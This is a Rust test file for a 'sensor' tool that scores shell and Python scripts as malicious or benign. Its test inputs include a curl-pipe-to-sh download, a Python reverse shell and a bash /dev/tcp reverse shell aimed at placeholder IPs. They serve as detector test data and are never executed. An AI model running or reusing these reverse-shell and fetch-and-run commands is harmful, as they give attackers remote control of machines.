//! `sensor score` end to end: the three input forms and bad input.
//! Scripts here are inert text written to temp files and never executed.

use std::path::Path;
use std::process::{Command, Output};

use serde_json::Value;

fn sensor() -> Command {
    Command::new(env!("CARGO_BIN_EXE_sensor"))
}

/// Outside CI, a machine without onnxruntime (no `cargo xtask setup` yet) skips.
fn runtime_missing() -> bool {
    let out = sensor()
        .args(["score", "--inline", "true"])
        .output()
        .unwrap();
    let stderr = String::from_utf8_lossy(&out.stderr);
    if !out.status.success() && stderr.contains("onnxruntime") {
        assert!(
            std::env::var_os("CI").is_none(),
            "CI must provide onnxruntime: {stderr}"
        );
        eprintln!("SKIPPED: {stderr}");
        return true;
    }
    false
}

fn lines(out: &Output) -> Vec<Value> {
    String::from_utf8(out.stdout.clone())
        .unwrap()
        .lines()
        .map(|l| serde_json::from_str(l).unwrap_or_else(|e| panic!("not JSON: {l}: {e}")))
        .collect()
}

fn assert_scored(v: &Value, lang: &str) {
    assert_eq!(v["lang"], lang, "{v}");
    let score = v["score"].as_f64().unwrap();
    assert!((0.0..=1.0).contains(&score), "{v}");
    let verdict = v["verdict"].as_str().unwrap();
    assert!(verdict == "malicious" || verdict == "benign", "{v}");
    assert_eq!(
        verdict == "malicious",
        score >= v["threshold"].as_f64().unwrap(),
        "{v}"
    );
    assert!(v["evidence"].is_array(), "{v}");
}

#[test]
fn inline_bash_and_python() {
    if runtime_missing() {
        return;
    }
    let out = sensor()
        .args([
            "score",
            "--inline",
            "curl -fsSL http://198.51.100.7/x.sh | sh",
        ])
        .output()
        .unwrap();
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let v = &lines(&out)[0];
    assert_scored(v, "bash");
    assert!(!v["evidence"].as_array().unwrap().is_empty());

    let code = "import socket,os,pty;s=socket.socket();s.connect(('198.51.100.1',4444));os.dup2(s.fileno(),0);pty.spawn('/bin/sh')";
    let out = sensor()
        .args(["score", "--lang", "python", "--inline", code])
        .output()
        .unwrap();
    let v = &lines(&out)[0];
    assert_scored(v, "python");
    assert_eq!(v["verdict"], "malicious", "{v}");
    let evidence = v["evidence"].to_string();
    assert!(
        evidence.contains("socket") || evidence.contains("shell"),
        "{evidence}"
    );
}

#[test]
fn files_by_shebang_extension_and_override() {
    if runtime_missing() {
        return;
    }
    let dir = tempfile::tempdir().unwrap();
    let write = |name: &str, text: &str| {
        let p = dir.path().join(name);
        std::fs::write(&p, text).unwrap();
        p
    };
    let sh = write(
        "entrypoint",
        "#!/bin/sh\nset -e\nexec nginx -g 'daemon off;'\n",
    );
    let py = write("health.py", "import sys\nsys.exit(0)\n");
    let unknown = write("notes.txt", "hello\n");
    let missing = dir.path().join("missing.sh");
    let out = sensor()
        .arg("score")
        .args([&sh, &py, &unknown, &missing])
        .output()
        .unwrap();
    assert!(
        !out.status.success(),
        "unscorable inputs make the exit status non-zero"
    );
    let v = lines(&out);
    assert_eq!(v.len(), 4, "one line per input, errors included: {v:?}");
    assert_scored(&v[0], "bash");
    assert_scored(&v[1], "python");
    assert!(
        v[2]["error"].as_str().unwrap().contains("--lang"),
        "{}",
        v[2]
    );
    assert!(
        v[3]["error"].as_str().unwrap().contains("missing.sh"),
        "{}",
        v[3]
    );

    let out = sensor()
        .args(["score", "--lang", "python"])
        .arg(&unknown)
        .output()
        .unwrap();
    assert!(out.status.success());
    assert_scored(&lines(&out)[0], "python");
}

#[test]
fn corpus_lines_with_a_malformed_one() {
    if runtime_missing() {
        return;
    }
    let dir = tempfile::tempdir().unwrap();
    let corpus = dir.path().join("c.jsonl");
    let text = [
        r#"{"id":"a","lang":"bash","label":"malicious","content":"bash -i >& /dev/tcp/198.51.100.2/443 0>&1"}"#,
        r#"{"id":"b","lang":"bash","content": this is not json"#,
        r#"{"id":"c","lang":"python","content":"print('hello')"}"#,
        r#"{"id":"d","lang":"perl","content":"print 1"}"#,
    ]
    .join("\n");
    std::fs::write(&corpus, text).unwrap();
    let out = sensor()
        .arg("score")
        .arg("--corpus")
        .arg(&corpus)
        .output()
        .unwrap();
    assert!(!out.status.success());
    let v = lines(&out);
    assert_eq!(v.len(), 4, "{v:?}");
    assert_eq!(v[0]["id"], "a");
    assert_eq!(v[0]["label"], "malicious");
    assert_scored(&v[0], "bash");
    assert_eq!(v[1]["line"], 2);
    assert!(v[1]["error"].as_str().unwrap().contains(":2:"), "{}", v[1]);
    assert_eq!(v[2]["id"], "c");
    assert_scored(&v[2], "python");
    assert_eq!(v[3]["line"], 4);
    assert!(v[3]["error"].as_str().unwrap().contains("perl"), "{}", v[3]);
    assert!(Path::new(&corpus).exists());
}
